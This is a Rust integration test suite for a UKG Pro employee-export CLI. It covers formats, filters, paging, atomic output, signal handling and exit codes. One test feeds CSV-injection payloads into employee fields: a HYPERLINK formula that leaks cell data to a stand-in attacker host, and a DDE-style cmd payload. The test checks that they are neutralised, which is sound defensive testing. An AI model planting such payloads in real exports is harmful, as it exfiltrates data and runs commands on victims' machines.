//! `<provider> users`: formats, summary, filters, paging, atomic output, exit codes.

use super::harness::*;

#[tokio::test]
async fn users_in_all_three_formats_hold_the_same_users() {
    let server = fixture_server().await;
    let dir = temp_dir("formats");
    let config = write_config(&dir, &support::settings(&server.uri()));

    let o = connector(&["ukgpro", "users", "--config", &config], &[]).await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let jsonl: Vec<Value> = stdout(&o)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();

    let o = connector(
        &["ukgpro", "users", "--config", &config, "--format", "json"],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let json: Vec<Value> = serde_json::from_slice(&o.stdout).unwrap();

    let o = connector(
        &["ukgpro", "users", "--config", &config, "--format", "csv"],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let mut reader = csv::Reader::from_reader(o.stdout.as_slice());
    let headers: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let csv_users: Vec<Value> = reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            let map: serde_json::Map<String, Value> = headers
                .iter()
                .zip(r.iter())
                .map(|(h, v)| {
                    (
                        h.clone(),
                        if v.is_empty() {
                            Value::Null
                        } else {
                            Value::String(v.to_owned())
                        },
                    )
                })
                .collect();
            Value::Object(map)
        })
        .collect();

    let expected = [
        "C1/E100", "C1/E101", "C1/E102", "C1/E300", "C2/E200", "C2/E201",
    ];
    assert_eq!(ids_of(&jsonl), expected);
    assert_eq!(ids_of(&json), expected);
    assert_eq!(ids_of(&csv_users), expected);
    // Same content in every format (CSV carries everything as text).
    let by_id = |users: &[Value], id: &str| users.iter().find(|u| u["id"] == id).cloned().unwrap();
    assert_eq!(by_id(&jsonl, "E100"), by_id(&json, "E100"));
    let ana = by_id(&csv_users, "E100");
    assert_eq!(ana["display_name"], "Ana Diaz");
    assert_eq!(ana["hire_date"], "2015-06-01");
    assert_eq!(ana["status"], "active");
    assert_eq!(by_id(&csv_users, "E201")["last_name"], "García");
    for field in [
        "email",
        "job_title",
        "manager_id",
        "termination_date",
        "updated_at",
    ] {
        for id in ["E100", "E101", "E200"] {
            let a = &by_id(&jsonl, id)[field];
            let b = &by_id(&csv_users, id)[field];
            assert_eq!(a, b, "{id}.{field}");
        }
    }
}

#[tokio::test]
async fn users_summary_reports_statuses_partners_malformed_and_fill_rates() {
    let server = fixture_server().await;
    let dir = temp_dir("summary");
    let config = write_config(&dir, &support::settings(&server.uri()));
    let o = connector(&["ukgpro", "users", "--config", &config], &[]).await;
    assert_eq!(code(&o), 0);
    let err = stderr(&o);
    assert!(
        err.contains("Exported 6 users to stdout (active 1, leave 1, suspended 1, terminated 1, inactive 1, unknown 1)"),
        "{err}"
    );
    assert!(
        err.contains("Records without a partner: 1 person-details without employment-details"),
        "{err}"
    );
    assert!(
        err.contains("Records without a partner: 1 employment-details without person-details"),
        "{err}"
    );
    assert!(err.contains("Malformed records skipped: 1"), "{err}");
    assert!(
        err.contains("person-details page 1, record 5: no employee id (company C1)"),
        "{err}"
    );
    assert!(err.contains("email             4 of 6   66%"), "{err}");
    assert!(!err.contains("WARNING"), "{err}");
    // No personal data beyond the export's own fields, anywhere.
    let all = format!("{}{err}", stdout(&o));
    for personal in [
        "111-22-3333",
        "999-88-7777",
        "1985-04-12",
        "Secret Lane",
        "555-0100",
        "Ghost",
    ] {
        assert!(!all.contains(personal), "{personal} leaked");
    }
}

#[tokio::test]
async fn a_missing_field_across_the_tenant_is_a_loud_warning() {
    let (mut persons, employments) = generated(50);
    for p in &mut persons {
        p.as_object_mut().unwrap().remove("emailAddress");
    }
    let server = support::ukg(Paged::new(persons), Paged::new(employments)).await;
    let dir = temp_dir("warning");
    let config = write_config(&dir, &support::settings(&server.uri()));
    let o = connector(
        &["ukgpro", "users", "--config", &config, "--format", "csv"],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0);
    assert!(
        stderr(&o).contains("WARNING: email: 0 of 50 users have it"),
        "{}",
        stderr(&o)
    );
}

#[tokio::test]
async fn status_and_company_filters() {
    let server = fixture_server().await;
    let dir = temp_dir("filters");
    let config = write_config(&dir, &support::settings(&server.uri()));
    let o = connector(
        &[
            "ukgpro",
            "users",
            "--config",
            &config,
            "--status",
            "active,leave",
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let users: Vec<Value> = stdout(&o)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(ids_of(&users), ["C1/E100", "C1/E101"]);
    assert!(
        stderr(&o).contains("Left out by the filters: 4"),
        "{}",
        stderr(&o)
    );

    let o = connector(
        &[
            "ukgpro",
            "users",
            "--config",
            &config,
            "--company",
            "C2",
            "--format",
            "json",
        ],
        &[],
    )
    .await;
    let users: Vec<Value> = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(ids_of(&users), ["C2/E200", "C2/E201"]);

    let o = connector(
        &[
            "ukgpro", "users", "--config", &config, "--status", "retired",
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 2);
    assert!(stderr(&o).contains("active"), "{}", stderr(&o));

    let o = connector(
        &[
            "ukgpro",
            "users",
            "--config",
            &config,
            "--page-size",
            "20000",
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 2);
    assert!(
        stderr(&o).contains("20000 is more than the 10000 records per page UKG Pro allows"),
        "{}",
        stderr(&o)
    );
    assert!(stderr(&o).contains("--page-size"), "{}", stderr(&o));

    // Refused before anything starts: no sandbox is announced.
    let o = connector(
        &["ukgpro", "users", "--sandbox", "--page-size", "20000"],
        &[],
    )
    .await;
    assert_eq!(code(&o), 2);
    assert!(
        !stderr(&o).contains("sandbox with a generated workforce"),
        "{}",
        stderr(&o)
    );
    assert!(
        stderr(&o).contains("10000 records per page"),
        "{}",
        stderr(&o)
    );
}

#[tokio::test]
async fn page_size_flag_controls_paging() {
    let (persons, employments) = generated(250);
    let server = support::ukg(Paged::new(persons), Paged::new(employments)).await;
    let dir = temp_dir("paging");
    let config = write_config(&dir, &support::settings(&server.uri()));
    let o = connector(
        &["ukgpro", "users", "--config", &config, "--page-size", "100"],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert_eq!(stdout(&o).lines().count(), 250);
    let mut pages = pages_requested(&server, support::PERSON).await;
    pages.sort_unstable();
    pages.dedup();
    assert_eq!(&pages[..3], [1, 2, 3]);
}

#[tokio::test]
async fn output_file_is_replaced_only_by_a_complete_export() {
    let (persons, employments) = generated(500);
    let failing = support::ukg(
        Paged::new(persons.clone()),
        Paged::new(employments.clone()).with_fault(3, ResponseTemplate::new(500)),
    )
    .await;
    let dir = temp_dir("atomic-fail");
    let config = write_config(&dir, &support::settings(&failing.uri()));
    let target = dir.join("users.csv");
    std::fs::write(&target, "previous good export\n").unwrap();
    let target_s = target.to_str().unwrap();
    let o = connector(
        &[
            "ukgpro",
            "users",
            "--config",
            &config,
            "--format",
            "csv",
            "--page-size",
            "100",
            "--output",
            target_s,
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 1, "{}", stderr(&o));
    let err = stderr(&o);
    assert!(err.contains("server error (HTTP 500)"), "{err}");
    assert!(
        err.contains("page") || err.contains("employment-details"),
        "{err}"
    );
    assert!(
        err.contains("was not written; an existing file there is unchanged"),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(&target).unwrap(),
        "previous good export\n"
    );
    assert_eq!(
        dir_entries(&dir),
        ["ukgpro.json", "users.csv"],
        "a partial file was left behind"
    );

    // The same export against a healthy server replaces the file.
    let healthy = support::ukg(Paged::new(persons), Paged::new(employments)).await;
    let config = write_config(&dir, &support::settings(&healthy.uri()));
    let o = connector(
        &[
            "ukgpro", "users", "--config", &config, "--format", "csv", "--output", target_s,
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert!(
        stdout(&o).is_empty(),
        "with --output nothing goes to stdout"
    );
    let mut reader = csv::Reader::from_path(&target).unwrap();
    assert_eq!(reader.records().count(), 500);
    assert!(
        stderr(&o).contains(&format!("Exported 500 users to {target_s}")),
        "{}",
        stderr(&o)
    );
    assert_eq!(dir_entries(&dir), ["ukgpro.json", "users.csv"]);
}

#[tokio::test]
async fn killing_an_export_leaves_the_old_file_intact() {
    let (persons, employments) = generated(300);
    let slow = |records: &[Value]| {
        ResponseTemplate::new(200)
            .set_body_json(records)
            .set_delay(std::time::Duration::from_secs(60))
    };
    let server = support::ukg(
        Paged::new(persons.clone()).with_fault(3, slow(&persons[200..])),
        Paged::new(employments.clone()).with_fault(3, slow(&employments[200..])),
    )
    .await;
    let dir = temp_dir("atomic-kill");
    let config = write_config(&dir, &support::settings(&server.uri()));
    let target = dir.join("users.jsonl");
    for signal in ["TERM", "HUP", "KILL"] {
        std::fs::write(&target, "previous good export\n").unwrap();
        let mut child = command(
            &[
                "ukgpro",
                "users",
                "--config",
                &config,
                "--page-size",
                "100",
                "--output",
                target.to_str().unwrap(),
            ],
            &[],
        )
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
        // Wait until the export is underway: page 3 has been requested (and hangs).
        for _ in 0..200 {
            if pages_requested(&server, support::PERSON).await.contains(&3) {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(25)).await;
        }
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        let pid = child.id().unwrap().to_string();
        let killed = std::process::Command::new("kill")
            .args([&format!("-{signal}"), &pid])
            .status()
            .unwrap();
        assert!(killed.success());
        let status = child.wait().await.unwrap();
        assert!(
            !status.success(),
            "{signal}: the export must not report success"
        );
        if signal != "KILL" {
            assert_eq!(
                status.code(),
                Some(130),
                "SIG{signal} is handled: interrupted"
            );
            assert_eq!(
                dir_entries(&dir),
                ["ukgpro.json", "users.jsonl"],
                "SIG{signal} left a temporary file"
            );
        }
        assert_eq!(
            std::fs::read_to_string(&target).unwrap(),
            "previous good export\n",
            "{signal}"
        );
        // After SIGKILL nothing can clean up: only a hidden `.users.jsonl.*.partial` may remain.
        for name in dir_entries(&dir) {
            assert!(
                ["ukgpro.json", "users.jsonl"].contains(&name.as_str())
                    || (name.starts_with(".users.jsonl.") && name.ends_with(".partial")),
                "{name}"
            );
        }
    }
}

#[tokio::test]
async fn export_failures_use_the_documented_exit_codes() {
    let dir = temp_dir("export-codes");
    let server = support::ukg(
        Paged::new(vec![]),
        Paged::new(vec![]).with_fault(1, ResponseTemplate::new(403)),
    )
    .await;
    let config = write_config(&dir, &support::settings(&server.uri()));
    let o = connector(&["ukgpro", "users", "--config", &config], &[]).await;
    assert_eq!(code(&o), 4, "{}", stderr(&o));
    assert!(stderr(&o).contains(
        "hint: give the service account View on the \u{201c}Personnel Integration\u{201d}"
    ));

    let mut bad = support::settings(&server.uri());
    bad["password"] = json!("wrong");
    let config = write_config(&dir, &bad);
    let o = connector(&["ukgpro", "users", "--config", &config], &[]).await;
    assert_eq!(code(&o), 3, "{}", stderr(&o));

    let config = write_config(&dir, &json!({"base_url": "x.example"}));
    let o = connector(&["ukgpro", "users", "--config", &config], &[]).await;
    assert_eq!(code(&o), 2);
    assert!(
        stderr(&o).contains("  password: is required"),
        "{}",
        stderr(&o)
    );
}

#[tokio::test]
async fn csv_output_neutralises_spreadsheet_formulas_and_control_characters() {
    let (mut persons, employments) = generated(3);
    persons[0]["firstName"] = json!("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")");
    persons[1]["emailAddress"] = json!("+cmd|' /C calc'!A0");
    persons[2]["lastName"] = json!("-2+3\u{0}\u{202e}+cmd");
    let server = support::ukg(Paged::new(persons), Paged::new(employments)).await;
    let dir = temp_dir("csv-formulas");
    let file = write_config(&dir, &settings(&server.uri()));
    let rows = |raw: bool| {
        let file = file.clone();
        async move {
            let mut args = vec!["ukgpro", "users", "--config", &file, "--format", "csv"];
            if raw {
                args.push("--csv-raw");
            }
            let o = connector(&args, &[]).await;
            assert_eq!(code(&o), 0, "{}", stderr(&o));
            let mut reader = csv::Reader::from_reader(o.stdout.as_slice());
            let header = reader.headers().unwrap().clone();
            let col = |name: &str| header.iter().position(|h| h == name).unwrap();
            let (first, display, email, last) = (
                col("first_name"),
                col("display_name"),
                col("email"),
                col("last_name"),
            );
            reader
                .records()
                .map(|r| {
                    let r = r.unwrap();
                    [&r[first], &r[display], &r[email], &r[last]].map(str::to_owned)
                })
                .collect::<Vec<_>>()
        }
    };
    let safe = rows(false).await;
    assert!(safe[0][0].starts_with("'=HYPERLINK"), "{:?}", safe[0]);
    assert!(
        safe[0][1].starts_with("'=HYPERLINK"),
        "derived display_name: {:?}",
        safe[0]
    );
    assert!(safe[1][2].starts_with("'+cmd"), "{:?}", safe[1]);
    assert_eq!(
        safe[2][3], "'-2+3+cmd",
        "control and bidi characters removed"
    );
    let raw = rows(true).await;
    assert!(raw[0][0].starts_with("=HYPERLINK"), "{:?}", raw[0]);
    assert_eq!(
        raw[2][3], "-2+3+cmd",
        "control characters are removed even raw"
    );
}

#[tokio::test]
async fn output_refuses_special_files_and_folders_before_any_request() {
    let server = fixture_server().await;
    let dir = temp_dir("special-output");
    let file = write_config(&dir, &settings(&server.uri()));
    let missing_folder = dir.join("nope").join("users.csv");
    let targets: Vec<(String, &str)> = vec![
        (dir.to_string_lossy().into_owned(), "is a directory"),
        ("/dev/null".to_owned(), "is a device, FIFO or socket"),
        (
            missing_folder.to_string_lossy().into_owned(),
            "does not exist",
        ),
    ];
    for (target, why) in targets {
        let o = connector(
            &["ukgpro", "users", "--config", &file, "--output", &target],
            &[],
        )
        .await;
        assert_eq!(code(&o), 2, "{target}: {}", stderr(&o));
        assert!(stderr(&o).contains(why), "{target}: {}", stderr(&o));
    }
    assert!(
        server.received_requests().await.unwrap().is_empty(),
        "no request before the destination was checked"
    );
}

#[tokio::test]
async fn stale_partial_files_of_dead_exports_are_removed() {
    let server = fixture_server().await;
    let dir = temp_dir("stale-partials");
    let file = write_config(&dir, &settings(&server.uri()));
    // A partial file of a process that no longer exists, and one of a live process (this one).
    let stale = dir.join(".users.jsonl.4000000.abc123.partial");
    let live = dir.join(format!(
        ".users.jsonl.{}.def456.partial",
        std::process::id()
    ));
    std::fs::write(&stale, "personal data").unwrap();
    std::fs::write(&live, "in progress").unwrap();
    let target = dir.join("users.jsonl");
    let o = connector(
        &[
            "ukgpro",
            "users",
            "--config",
            &file,
            "--output",
            &target.to_string_lossy(),
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert!(!stale.exists(), "the dead export's partial file is removed");
    assert!(live.exists(), "a running export's file is kept");
}

#[tokio::test]
async fn an_export_of_mostly_broken_data_fails_and_replaces_nothing() {
    let (persons, employments) = generated(10);
    // Every person record lacks its id (malformed); employments are fine.
    let broken: Vec<Value> = persons
        .into_iter()
        .map(|mut p| {
            p.as_object_mut().unwrap().remove("employeeId");
            p
        })
        .collect();
    let server = support::ukg(Paged::new(broken), Paged::new(employments)).await;
    let dir = temp_dir("mostly-broken");
    let file = write_config(&dir, &settings(&server.uri()));
    let target = dir.join("users.jsonl");
    std::fs::write(&target, "the last good export\n").unwrap();
    let args = [
        "ukgpro",
        "users",
        "--config",
        &file,
        "--output",
        &target.to_string_lossy(),
    ];
    let o = connector(&args, &[]).await;
    assert_eq!(code(&o), 1, "{}", stderr(&o));
    assert!(
        stderr(&o).contains("10 of 10 users have only part of their data"),
        "{}",
        stderr(&o)
    );
    assert_eq!(
        std::fs::read_to_string(&target).unwrap(),
        "the last good export\n"
    );
    let mut accepting = args.to_vec();
    accepting.push("--accept-incomplete");
    let o = connector(&accepting, &[]).await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert_eq!(
        std::fs::read_to_string(&target).unwrap().lines().count(),
        10
    );
}

#[tokio::test]
async fn the_format_follows_the_output_file_and_values_are_tolerant() {
    let server = fixture_server().await;
    let dir = temp_dir("format-inference");
    let file = write_config(&dir, &settings(&server.uri()));
    let csv = dir.join("users.csv");
    let csv_path = csv.to_string_lossy().into_owned();
    let o = connector(
        &["ukgpro", "users", "--config", &file, "--output", &csv_path],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let written = std::fs::read_to_string(&csv).unwrap();
    assert!(
        written.starts_with("id,company_id,"),
        "CSV inferred from .csv: {written}"
    );
    let o = connector(
        &[
            "ukgpro", "users", "--config", &file, "--output", &csv_path, "--format", "jsonl",
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 2, "{}", stderr(&o));
    assert!(
        stderr(&o).contains("does not match the output file's extension"),
        "{}",
        stderr(&o)
    );
    let o = connector(
        &[
            "ukgpro",
            "users",
            "--config",
            &file,
            "--output",
            "-",
            "--format",
            "CSV",
            "--status",
            "Active, leave",
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert!(
        stdout(&o).starts_with("id,company_id,"),
        "`-` is stdout: {}",
        stdout(&o)
    );
    assert!(!dir.join("-").exists(), "no file named -");
}

#[tokio::test]
async fn an_empty_or_small_export_fails_unless_allowed() {
    let server = fixture_server().await;
    let dir = temp_dir("empty-export");
    let file = write_config(&dir, &settings(&server.uri()));
    let target = dir.join("users.jsonl");
    std::fs::write(&target, "the last good export\n").unwrap();
    let out = target.to_string_lossy().into_owned();
    let nobody = [
        "ukgpro",
        "users",
        "--config",
        &file,
        "--company",
        "C9999",
        "--output",
        &out,
    ];
    let o = connector(&nobody, &[]).await;
    assert_eq!(code(&o), 1, "{}", stderr(&o));
    assert!(
        stderr(&o).contains("the export holds no user"),
        "{}",
        stderr(&o)
    );
    assert_eq!(
        std::fs::read_to_string(&target).unwrap(),
        "the last good export\n"
    );
    let mut allowed = nobody.to_vec();
    allowed.push("--allow-empty");
    let o = connector(&allowed, &[]).await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "");
    let o = connector(
        &[
            "ukgpro",
            "users",
            "--config",
            &file,
            "--min-users",
            "1000",
            "--output",
            &out,
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 1, "{}", stderr(&o));
    assert!(
        stderr(&o).contains("fewer than --min-users 1,000"),
        "{}",
        stderr(&o)
    );
}

#[tokio::test]
async fn a_closed_pipe_ends_the_export_quietly() {
    let mut child = command(
        &["ukgpro", "users", "--sandbox", "--sandbox-users", "20000"],
        &[],
    )
    .stdout(std::process::Stdio::piped())
    .stderr(std::process::Stdio::piped())
    .spawn()
    .unwrap();
    // Read one line, then close the pipe, as `| head -1` does.
    {
        use tokio::io::AsyncBufReadExt;
        let stdout = child.stdout.take().unwrap();
        let mut lines = tokio::io::BufReader::new(stdout).lines();
        assert!(lines.next_line().await.unwrap().is_some());
    }
    let out = child.wait_with_output().await.unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    assert!(!err.contains("error"), "{err}");
}

#[tokio::test]
async fn a_wrong_address_fails_fast_instead_of_retrying_every_page() {
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = closed.local_addr().unwrap();
    drop(closed);
    let dir = temp_dir("refused-port");
    let file = write_config(&dir, &settings(&format!("http://{addr}")));
    let started = std::time::Instant::now();
    let o = connector(&["ukgpro", "users", "--config", &file], &[]).await;
    assert_eq!(code(&o), 5, "{}", stderr(&o));
    assert!(
        started.elapsed() < std::time::Duration::from_secs(10),
        "a refused port must not be retried for every page ({:?})",
        started.elapsed()
    );
    assert!(!stderr(&o).contains("retry: "), "{}", stderr(&o));
}

#[tokio::test]
async fn limit_peeks_at_the_first_users_without_fetching_the_rest() {
    let dir = temp_dir("limit");
    let file = dir.join("peek.csv");
    let o = connector(
        &[
            "ukgpro",
            "users",
            "--sandbox",
            "--limit",
            "7",
            "--output",
            file.to_str().unwrap(),
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let csv = std::fs::read_to_string(&file).unwrap();
    assert_eq!(csv.lines().count(), 8, "a header and 7 users:\n{csv}");
    let err = stderr(&o);
    assert!(err.contains("Exported 7 users"), "{err}");
    assert!(err.contains("stopped at --limit 7"), "{err}");
    // The sandbox's 300 employees are 600 records; a peek reads a small page of each.
    let read: u64 = err
        .split(" records read")
        .next()
        .and_then(|head| head.rsplit(' ').next())
        .and_then(|n| n.replace(',', "").parse().ok())
        .expect("the summary counts records");
    assert!(read < 100, "{read} records read for 7 users:\n{err}");

    // Without --limit the whole workforce is exported, and no limit is mentioned.
    let o = connector(&["ukgpro", "users", "--sandbox"], &[]).await;
    assert_eq!(stdout(&o).lines().count(), 300);
    assert!(!stderr(&o).contains("--limit"), "{}", stderr(&o));

    let o = connector(&["ukgpro", "users", "--sandbox", "--limit", "0"], &[]).await;
    assert_eq!(code(&o), 2, "{}", stderr(&o));
    assert!(
        stderr(&o).contains("for '--limit <N>': must be at least 1"),
        "in words, not the type's range: {}",
        stderr(&o)
    );
}

#[tokio::test]
async fn summary_json_reports_the_outcome_and_counts_for_scripts() {
    let dir = temp_dir("summary-json");
    let summary = dir.join("summary.json");
    let summary_arg = summary.to_str().unwrap();
    let out = dir.join("users.csv");
    let o = connector(
        &[
            "ukgpro",
            "users",
            "--sandbox",
            "--output",
            out.to_str().unwrap(),
            "--summary-json",
            summary_arg,
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let report: Value = serde_json::from_str(&std::fs::read_to_string(&summary).unwrap()).unwrap();
    assert_eq!(report["ok"], true);
    assert_eq!(report["exit_code"], 0);
    assert_eq!(report["error"], Value::Null);
    assert_eq!(report["written"], true);
    assert_eq!(report["format"], "csv");
    assert_eq!(report["users"], 300);
    let rows = std::fs::read_to_string(&out).unwrap().lines().count() - 1;
    assert_eq!(
        report["users"], rows as u64,
        "the report counts what was written"
    );
    let by_status: u64 = report["by_status"]
        .as_object()
        .unwrap()
        .values()
        .map(|v| v.as_u64().unwrap())
        .sum();
    assert_eq!(by_status, 300);
    assert_eq!(report["filled"]["id"], 300);
    assert_eq!(report["records"], 600);

    // A failed export still reports, with the reason and the exit status; nothing written.
    let o = connector(
        &[
            "ukgpro",
            "users",
            "--sandbox",
            "--company",
            "C1",
            "--summary-json",
            summary_arg,
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 1, "{}", stderr(&o));
    let report: Value = serde_json::from_str(&std::fs::read_to_string(&summary).unwrap()).unwrap();
    assert_eq!(report["ok"], false);
    assert_eq!(report["exit_code"], 1);
    assert_eq!(report["written"], false);
    assert_eq!(report["users"], 0);
    assert!(
        report["error"].as_str().unwrap().contains("no user"),
        "{report}"
    );

    // A refused password: exit 3 in the report, and the password nowhere in it.
    let server = ukg(ResponseTemplate::new(401), ResponseTemplate::new(401)).await;
    let config = write_config(&dir, &settings(&server.uri()));
    let o = connector(
        &[
            "ukgpro",
            "users",
            "--config",
            &config,
            "--summary-json",
            summary_arg,
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 3, "{}", stderr(&o));
    let text = std::fs::read_to_string(&summary).unwrap();
    let report: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(report["exit_code"], 3);
    assert!(!report["error"].as_str().unwrap().is_empty());
    assert!(!text.contains(PASSWORD), "{text}");

    // A summary that cannot be written is refused before any request.
    let o = connector(
        &[
            "ukgpro",
            "users",
            "--sandbox",
            "--summary-json",
            "/nonexistent-folder/s.json",
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 2);
    assert!(
        stderr(&o).contains("--summary-json /nonexistent-folder/s.json"),
        "{}",
        stderr(&o)
    );
}

#[tokio::test]
async fn fields_and_bom_shape_the_csv_for_spreadsheets() {
    let dir = temp_dir("fields-bom");
    let out = dir.join("people.csv");
    let o = connector(
        &[
            "ukgpro",
            "users",
            "--sandbox",
            "--fields",
            "id,EMAIL",
            "--fields",
            "last_name",
            "--bom",
            "--output",
            out.to_str().unwrap(),
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let text = std::fs::read_to_string(&out).unwrap();
    let body = text.strip_prefix('\u{feff}').expect("a BOM first");
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        ["id", "email", "last_name"]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 300);
    assert!(rows.iter().all(|r| r.len() == 3 && r[0].starts_with('E')));

    let o = connector(&["ukgpro", "users", "--sandbox", "--bom"], &[]).await;
    assert_eq!(code(&o), 2, "a BOM in JSON Lines is refused");
    assert!(stderr(&o).contains("--bom is for CSV"), "{}", stderr(&o));
    assert!(o.stdout.is_empty());

    let o = connector(
        &["ukgpro", "users", "--sandbox", "--fields", "id,mail"],
        &[],
    )
    .await;
    assert_eq!(code(&o), 2);
    assert!(
        stderr(&o).contains("--fields: `mail` is not a user field"),
        "{}",
        stderr(&o)
    );
}

#[tokio::test]
async fn quiet_says_only_what_went_wrong() {
    let o = connector(&["-q", "ukgpro", "users", "--sandbox"], &[]).await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert_eq!(stdout(&o).lines().count(), 300);
    assert!(
        !stderr(&o).contains("Exported"),
        "no summary with -q: {}",
        stderr(&o)
    );
    // An error is still reported, in full.
    let o = connector(
        &["ukgpro", "users", "--sandbox", "--company", "C1", "--quiet"],
        &[],
    )
    .await;
    assert_eq!(code(&o), 1);
    assert!(
        stderr(&o).contains("error: the export holds no user"),
        "{}",
        stderr(&o)
    );
    let o = connector(&["-q", "-v", "list"], &[]).await;
    assert_eq!(code(&o), 2, "-q and -v exclude each other");
}
